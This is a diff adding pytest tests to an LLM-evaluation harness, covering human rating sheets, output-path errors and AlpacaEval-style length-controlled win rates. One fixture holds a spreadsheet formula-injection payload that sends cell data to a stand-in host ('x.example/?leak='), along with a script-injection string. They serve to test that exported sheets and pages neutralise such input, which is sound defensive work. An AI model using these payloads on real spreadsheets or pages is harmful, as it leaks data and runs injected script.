@@ -1,19 +1,27 @@
 from __future__ import annotations
 
 import argparse
+import csv
+import io
 import json
+import os
 from collections.abc import Callable
 from pathlib import Path
+from types import SimpleNamespace
 
+import numpy as np
 import pytest
+from judging_fakes import FakeJudge
 
 from implicit_if.harness.annotations import AnnotationStore
 from implicit_if.harness.errors import UserError
-from implicit_if.harness.judging import command
+from implicit_if.harness.judging import Comparison, Pair, command
+from implicit_if.harness.judging import pairs as pairs_module
 from implicit_if.harness.judging.command import parse_options
 from implicit_if.harness.outputs import Output, OutputsMeta, instruction_id, save_outputs
 from implicit_if.harness.scores import Score
 from implicit_if.harness.signature import Signature
+from implicit_if.harness.stats.glm import official_ids
 
 Run = Callable[..., int]
 
@@ -136,9 +144,7 @@ def test_dry_run_writes_nothing(judge_command: Run, folder: Path, capsys: pytest
 def test_missing_verdicts_are_shown_and_change_the_exit_status(
     judge_command: Run, folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    from judging_fakes import FakeJudge
-
-    from implicit_if.harness.judging import Comparison, Verdict
+    from implicit_if.harness.judging import Verdict
 
     def fails(c: Comparison) -> float | Verdict:
         lost = c.instruction == "Instruction 1"
@@ -239,3 +245,218 @@ def test_malformed_options(option: str) -> None:
 def test_options_reach_the_judge(judge_command: Run) -> None:
     with pytest.raises(UserError, match="takes neither argument nor options, found options verbosity"):
         judge_command("--option", "verbosity=3")
+
+
+def test_an_unwritable_out_is_a_clear_error(judge_command: Run, folder: Path) -> None:
+    with pytest.raises(UserError, match=r"--out .*cannot be written.*verdicts are kept"):
+        judge_command("--out", str(folder / "sys.json" / "scores.json"))  # its folder is a file
+    assert len(list(AnnotationStore(folder / "sys.annotations.jsonl"))) == 5
+
+
+# People
+
+
+def fill_in(path: Path, verdict: Callable[[dict[str, str]], str]) -> None:
+    """Fills a sheet in as a spreadsheet saves it: the texts as shown, quoted anew."""
+    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
+    with open(path, "w", newline="", encoding="utf-8") as file:
+        writer = csv.DictWriter(file, fieldnames=list(rows[0]), quoting=csv.QUOTE_ALL)
+        writer.writeheader()
+        writer.writerows({**row, "verdict": verdict(row)} for row in rows)
+
+
+FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"<script>alert(1)</script>")'
+
+
+@pytest.fixture
+def formulas(folder: Path) -> None:
+    """Answers that a spreadsheet would run, against harmless ones."""
+    starts = ["=", "+", "-", "@", " ="]
+    for name, answers in (("f-sys", [s + FORMULA for s in starts]), ("f-ref", ["harmless"] * 5)):
+        rows = [Output(instruction=f"Instruction {n}", output=a, generator=name) for n, a in enumerate(answers)]
+        save_outputs(folder / f"{name}.json", rows)
+
+
+def test_a_sheet_is_written_filled_in_and_judged(
+    judge_command: Run, folder: Path, formulas: None, capsys: pytest.CaptureFixture[str]
+) -> None:
+    names = {"outputs": "f-sys.json", "reference": "f-ref.json", "judge": "human"}
+    sheet = folder / "rating"
+    assert judge_command("--sheet", str(sheet), **names) == 0
+    assert "5 rows are in" in capsys.readouterr().out
+    assert not (folder / "f-sys.annotations.jsonl").exists()
+    for row in csv.DictReader(io.StringIO((sheet / "sheet.csv").read_text(encoding="utf-8-sig"), newline="")):
+        assert not any(row[c].lstrip().startswith(("=", "+", "-", "@")) for c in row)
+    page = (sheet / "sheet.html").read_text()
+    assert "<script>alert" not in page
+    assert "f-sys" not in page + (sheet / "sheet.csv").read_text()  # blind
+
+    assert judge_command("--sheet", str(sheet), **names) == 1  # nothing filled in yet
+    assert "judged: 0 of 5" in capsys.readouterr().out
+    fill_in(sheet / "sheet.csv", lambda row: "1" if "HYPERLINK" in row["answer_1"] else "2")
+    assert judge_command("--sheet", str(sheet), "--out", str(folder / "s.json"), **names) == 0
+    assert scores_in(folder / "s.json")["win_rate"].value == 100.0
+    assert "judged by human:rating" in capsys.readouterr().out
+
+
+def test_what_the_page_saves_is_found_and_never_mixed(judge_command: Run, folder: Path, formulas: None) -> None:
+    names = {"outputs": "f-sys.json", "reference": "f-ref.json", "judge": "human"}
+    sheet = folder / "rating"
+    judge_command("--sheet", str(sheet), **names)
+    text = (sheet / "sheet.csv").read_text(encoding="utf-8-sig")
+    keys = [row["key"] for row in csv.DictReader(io.StringIO(text, newline=""))]
+    (sheet / "sheet-judged.csv").write_text("key,verdict,comment\n" + "".join(f"{key},tie,\n" for key in keys))
+    assert judge_command("--sheet", str(sheet), "--out", str(folder / "s.json"), **names) == 0
+    assert scores_in(folder / "s.json")["win_rate"].value == 50.0
+    fill_in(sheet / "sheet.csv", lambda row: "1")
+    with pytest.raises(UserError, match="Expected one sheet with verdicts"):
+        judge_command("--sheet", str(sheet), **names)
+
+
+def test_sheets_are_for_people(judge_command: Run, folder: Path) -> None:
+    with pytest.raises(UserError, match="--judge human"):
+        judge_command("--sheet", str(folder / "rating"))
+    with pytest.raises(UserError, match="cannot be written"):
+        judge_command("--sheet", str(folder / "sys.json"), judge="human")
+
+
+# Length control
+
+
+def test_the_estimator_and_its_prior_are_shown(
+    judge_command: Run, folder: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    judge_command("--out", str(folder / "s.json"))
+    assert "length control: offline(weak), because the instruction set is 'mine'" in capsys.readouterr().out
+    found = json.loads((folder / "s.json").read_text())
+    control, score = found["length_control"], found["scores"]["length_controlled_win_rate"]
+    assert (control["method"], control["prior"]["mean"], control["prior"]["sd"]) == ("offline(weak)", 0.0, 1.0)
+    low, high = control["prior_sensitivity"]
+    assert min(low, high) <= score["value"] <= max(low, high)
+    assert "|lc:offline(weak)|" in score["signature"]
+    judge_command("--out", str(folder / "s.json"), "--length-prior=-1.4,0.2")
+    assert "|lc:offline(-1.4,0.2)|" in (folder / "s.json").read_text()
+    assert "as asked for" in capsys.readouterr().out
+
+
+def test_alpaca_evals_length_control_cannot_be_had_elsewhere(judge_command: Run) -> None:
+    with pytest.raises(UserError, match="the instruction set is 'mine', not AlpacaEval's"):
+        judge_command("--length-control", "alpaca_eval")
+    with pytest.raises(UserError, match="leave out"):
+        judge_command("--length-control", "alpaca_eval", "--length-prior", "weak")
+
+
+@pytest.fixture
+def alpaca_eval(folder: Path, monkeypatch: pytest.MonkeyPatch) -> FakeJudge:
+    """Shuffled answers to AlpacaEval by id, a judge with a language model's name, and the hub's file in our cache."""
+    ids = list(official_ids())
+    rng = np.random.default_rng(0)
+    wins = dict(zip(ids, rng.random(len(ids)).round(3), strict=True))
+    for name, scale in (("a-sys", 300), ("a-ref", 600)):
+        rows = [
+            Output(instruction_id=i, instruction=None, output=f"{name} {i} " + "x" * int(n), generator=name)
+            for i, n in zip(ids, rng.exponential(scale, len(ids)), strict=True)
+        ]
+        save_outputs(folder / f"{name}.json", [rows[k] for k in rng.permutation(len(rows))])
+    with open(Path(os.environ["IMPLICIT_IF_CACHE"]) / "df_gamed.csv", "w", newline="") as file:
+        writer = csv.writer(file)
+        writer.writerow(
+            ["preference", "index", "std_delta_len", "instruction_difficulty", "not_gamed_baseline", "model"]
+        )
+        for model, shift in (("concise", 0.8), ("verbose", -0.6)):
+            for k in range(len(ids)):
+                writer.writerow([float(rng.random() < 0.4), k, rng.normal(shift, 1), rng.normal(), False, model])
+    judge = FakeJudge(lambda c: wins[c.first.split()[1]], ordered=False)
+    judge.name = "openai:fake"
+    monkeypatch.setattr(command, "get_judge", lambda spec, **options: judge)
+    return judge
+
+
+def theirs(folder: Path, judge: FakeJudge, monkeypatch: pytest.MonkeyPatch) -> float:
+    """alpaca-eval 0.6.6 on the same verdicts, in AlpacaEval's order, with the same hub file."""
+    import importlib
+    import warnings
+
+    import pandas as pd
+    import sklearn
+
+    answers = [
+        {o["instruction_id"]: o for o in json.loads((folder / f"a-{n}.json").read_text())} for n in ("sys", "ref")
+    ]
+    system, reference = ([by_id[i]["output"] for i in official_ids()] for by_id in answers)
+    with sklearn.config_context(), warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        module = importlib.import_module("alpaca_eval.metrics.glm_winrate")
+        path = Path(os.environ["IMPLICIT_IF_CACHE"]) / "df_gamed.csv"
+        monkeypatch.setattr(module, "hf_hub_download", lambda **_: str(path))
+        table = pd.DataFrame(
+            {
+                "preference": [1 + judge.prefers_first(Comparison("", "", s, "")) for s in system],
+                "output_1": reference,
+                "output_2": system,
+                "generator_1": "reference",
+                "generator_2": "system",
+                "annotator": "judge",
+            }
+        )
+        found = module.get_length_controlled_winrate(table, save_weights_dir=None)
+    return float(found["length_controlled_winrate"])
+
+
+def test_alpaca_evals_own_length_control_where_its_file_is_cached(
+    judge_command: Run,
+    folder: Path,
+    alpaca_eval: FakeJudge,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    names = {"outputs": "a-sys.json", "reference": "a-ref.json"}
+    arguments = ["--instructions", "alpaca_eval", "--out", str(folder / "s.json")]
+    texts = SimpleNamespace(name="alpaca_eval", revision="r", texts=lambda: {i: f"text of {i}" for i in official_ids()})
+    monkeypatch.setattr(command, "_load_set", lambda spec: texts)  # the texts may not be shipped with a test
+    monkeypatch.setattr(command, "join_instructions", lambda outputs, texts: outputs)
+    monkeypatch.setattr(pairs_module, "_text", lambda system, reference: f"text of {system.instruction_id}")
+    judge_command(*arguments, **names)
+    assert "length control: alpaca_eval, with df_gamed.csv" in capsys.readouterr().out
+    score = scores_in(folder / "s.json")["length_controlled_win_rate"]
+    assert score.value == pytest.approx(theirs(folder, alpaca_eval, monkeypatch), abs=1e-9)
+    assert Signature.parse(score.signature).lc == "alpaca_eval"
+    assert score.interval is not None
+    assert score.interval.method == "alpaca_eval;score"
+    control = json.loads((folder / "s.json").read_text())["length_control"]
+    assert control == {
+        "method": "alpaca_eval",
+        "reason": "with df_gamed.csv of AlpacaEval's hub dataset",
+        "prior": None,
+        "prior_sensitivity": None,
+    }
+
+    judge_command(*arguments, "--length-control", "offline", **names)
+    assert Signature.parse(scores_in(folder / "s.json")["length_controlled_win_rate"].signature).lc == "offline(llm)"
+    alpaca_eval.name = "embedded"  # not a language model: GPT-4's taste for length is not its own
+    judge_command(*arguments, **names)
+    assert "because alpaca-eval's holds GPT-4 Turbo's taste" in capsys.readouterr().out
+    judge_command(*arguments, "--length-control", "alpaca_eval", **names)
+    assert "|lc:alpaca_eval|" in (folder / "s.json").read_text()
+    alpaca_eval.name = "openai:fake"
+    file = Path(os.environ["IMPLICIT_IF_CACHE"]) / "df_gamed.csv"
+    lines = file.read_text().splitlines()
+    file.write_text("\n".join(line for line in lines if line.split(",")[1] not in ("803", "804")))
+    judge_command(*arguments, **names)
+    assert "holds 803 instructions, expected 805" in capsys.readouterr().out
+    file.write_text("a,b\n1,2\n")
+    judge_command(*arguments, **names)
+    assert "because it cannot be used:" in capsys.readouterr().out
+    with pytest.raises(UserError, match="it cannot be used: .*Expected verdicts on AlpacaEval's"):
+        judge_command(*arguments, "--length-control", "alpaca_eval", **names)
+    file.unlink()
+    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_CACHE", str(folder / "no-hub"))
+    judge_command(*arguments, **names)
+    assert (
+        "offline(llm), because df_gamed.csv of AlpacaEval's hub dataset is not in the cache" in capsys.readouterr().out
+    )
+
+
+def test_alpaca_eval_is_known_by_its_ids(folder: Path) -> None:
+    rows = [Pair(i, "?", *[Output(instruction_id=i, output="x", generator="s")] * 2) for i in official_ids()[5:9]]
+    assert command._identify(rows, None, folder / "sys.json")[0] == "alpaca_eval"
